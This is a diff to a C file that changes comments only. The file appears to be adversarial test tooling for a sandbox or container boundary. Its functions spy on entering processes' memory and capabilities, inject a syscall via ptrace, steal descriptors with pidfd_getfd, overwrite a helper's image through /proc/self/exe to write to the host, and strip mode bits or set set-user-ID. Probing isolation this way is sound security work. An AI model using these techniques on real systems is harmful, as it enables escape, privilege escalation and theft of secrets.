@@ -23,11 +23,11 @@
 #include <elf.h>
 #include <netinet/in.h>
 
-/* ---- spy: look at everything that /proc shows of it ---- */
+/* ---- spy: look at everything that /proc shows of an entering process ---- */
 
 enum { MAX_KINDS = 256, KIND_SIZE = 200 };
 
-/* Numbers vary from one process to the next: each run of digits becomes one N. */
+/* Numbers differ from one process to the next, so each run of digits becomes one N. */
 static void blur(char *text)
 {
     char *to = text;
@@ -42,7 +42,7 @@ static void blur(char *text)
     *to = '\0';
 }
 
-/* Each different finding is said once. */
+/* Reports a finding, each different one once. */
 static void find(const char *what, const char *detail)
 {
     static char known[MAX_KINDS][KIND_SIZE];
@@ -98,7 +98,7 @@ static bool look_at_descriptors(pid_t pid)
     return seen;
 }
 
-/* The names of what is mapped, and the secret in what can be read of it. */
+/* Reports the names of what is mapped, and where the secret is in memory that can be read. */
 static void look_at_memory(pid_t pid, const char *secret)
 {
     char path[64], line[PATH_MAX + 100];
@@ -159,8 +159,8 @@ static void look_at_capabilities(pid_t pid)
     }
 }
 
-/* spy SECRET LETTERS: stops each entering process at its birth and looks at it as long as it likes. Every
- * hundred samples it says how many there were. */
+/* spy SECRET: stops each entering process at its birth and looks at it as long as it likes. Every ten
+ * samples it says how many there were. */
 int spy(int argc, char **argv)
 {
     const char *secret = argc > 0 ? argv[0] : "";
@@ -187,7 +187,7 @@ int spy(int argc, char **argv)
     }
 }
 
-/* ---- hijack: make it do a system call of our choice ---- */
+/* ---- hijack: make an entering process do a system call of the attacker's choice ---- */
 
 #if defined(__x86_64__)
 static const unsigned char trap_code[] = {0x0f, 0x05, 0xcc}; /* syscall; int3 */
@@ -240,7 +240,7 @@ static bool set_memory(pid_t pid, unsigned long at, const void *data, size_t siz
     return done;
 }
 
-/* Stopped already. Makes it call sethostname("owned"), which takes CAP_SYS_ADMIN. */
+/* Makes a stopped process call sethostname("owned"), which takes CAP_SYS_ADMIN. */
 static long inject(pid_t pid)
 {
     struct user_regs_struct registers = {0};
@@ -331,7 +331,7 @@ int stopper(int argc, char **argv)
     }
 }
 
-/* ---- thief: take its descriptors ---- */
+/* ---- thief: take the descriptors of an entering process ---- */
 
 int deaf_listener(void)
 {
@@ -388,7 +388,8 @@ ssize_t send_fd(int to, int fd)
     return sendmsg(to, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
 }
 
-/* What a stolen descriptor is good for. A socket carries descriptors to the caller; a pipe carries bytes. */
+/* Tries what a stolen descriptor is good for. A socket carries descriptors to the caller; a pipe carries
+ * bytes. */
 static void use(int fd, const char *how)
 {
     struct stat about;
@@ -401,7 +402,7 @@ static void use(int fd, const char *how)
         say("socket");
     } else if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY && strcmp(how, "flood") == 0) {
         static const struct packet junk = {.kind = 77};
-        bool first = true; /* several, so that there is always something to read */
+        bool first = true; /* several writers, so that the caller always has something to read */
         for (int i = 0; i < 7 && first; i++) {
             first = fork() > 0;
         }
@@ -415,9 +416,9 @@ static void use(int fd, const char *how)
     }
 }
 
-/* thief HOW: copies every descriptor above stdio of each entering process (pidfd_getfd(2)) and keeps it, so
- * that its end is never seen. "linger": sends a socket that takes an hour to close over what takes one;
- * "flood": writes without end, the process being stopped. */
+/* thief HOW: copies every descriptor above stdio of each entering process (pidfd_getfd(2)) and keeps the
+ * copies, so that the caller never sees the end of a pipe or socket. "linger": sends a socket that takes an
+ * hour to close over each socket; "flood": writes to each pipe without end, while the process is stopped. */
 int thief(int argc, char **argv)
 {
     const char *how = argc > 0 ? argv[0] : "keep";
@@ -475,8 +476,9 @@ static int image_of(pid_t pid)
     return -1;
 }
 
-/* The image of the next process that enters. It can be looked at before its execve with CAP_SYS_PTRACE; else
- * after it, where the image is what a script names with #!/proc/self/exe. */
+/* The image of the next process that enters. With CAP_SYS_PTRACE the image can be opened before the process's
+ * execve; else only after it, when the command is a script with #!/proc/self/exe, which the image then
+ * runs. */
 static int next_image(void)
 {
     for (;;) {
@@ -493,8 +495,9 @@ static int next_image(void)
     }
 }
 
-/* overwrite PATH [IMAGE]: puts this program in place of the image, to run as the next helper and write to
- * PATH of the host. IMAGE: a descriptor of it, instead of that of the next process that enters. */
+/* overwrite PATH [IMAGE]: puts this program in place of the helper's image, so that it runs as the next
+ * helper and writes to PATH of the host. IMAGE: a descriptor of the image, instead of the image of the next
+ * process that enters. */
 int overwrite(int argc, char **argv)
 {
     static char tail[4096];
@@ -535,7 +538,8 @@ int overwrite(int argc, char **argv)
     }
 }
 
-/* spoil: takes the image's mode bits away, for whoever executes it next. */
+/* spoil: takes the image's mode bits away, or makes it a set-user-ID file of another owner, for the next
+ * execve of it. */
 int spoil(int argc, char **argv)
 {
     (void)argc;
